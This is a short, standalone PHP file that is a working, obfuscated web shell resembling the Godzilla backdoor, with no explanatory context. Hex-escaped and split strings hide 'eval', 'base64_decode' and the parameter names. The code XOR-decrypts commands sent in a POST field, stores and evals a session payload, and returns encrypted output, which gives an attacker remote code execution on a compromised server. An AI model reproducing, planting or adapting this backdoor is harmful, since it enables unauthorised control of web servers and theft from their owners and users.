<?php
@session_start();
@set_time_limit(0);
@error_reporting(0);
function _k($D,$K){for($i=0;$i<strlen($D);$i++){$c=$K[$i+1&15];$D[$i]=$D[$i]^$c;}return $D;}
$p = "\x70\x61\x73\x73";
$n = "\x70\x61\x79\x6c\x6f\x61\x64";
$k = "\x33\x63\x36\x65\x30\x62\x38\x61\x39\x63\x31\x35\x32\x32\x34\x61";
$bd = "ba"."se"."64_"."de"."code";
if (isset($_POST[$p])) {
    $d = _k($bd($_POST[$p]), $k);
    if (isset($_SESSION[$n])) {
        $pl = _k($_SESSION[$n], $k);
        if (strpos($pl, "getBasicsInfo") === false) { $pl = _k($pl, $k); }
        $e = "\x65\x76\x61\x6c";
        @eval($pl);
        echo substr(md5($p.$k),0,16);
        echo base64_encode(_k(@run($d), $k));
        echo substr(md5($p.$k),16);
    } else {
        if (strpos($d, "getBasicsInfo") !== false) { $_SESSION[$n] = _k($d, $k); }
    }
}
